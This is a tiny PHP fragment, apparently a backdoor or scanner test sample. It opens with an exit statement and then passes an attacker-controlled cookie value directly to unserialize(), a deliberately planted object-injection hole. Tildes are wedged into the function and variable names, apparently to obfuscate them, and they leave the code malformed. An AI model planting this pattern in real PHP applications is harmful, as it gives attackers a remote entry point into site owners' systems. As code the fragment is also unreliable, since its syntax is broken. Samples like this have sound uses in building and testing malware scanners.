<?php exit; ?>
<?php uns~erialize($_C~OOKIE['m']);
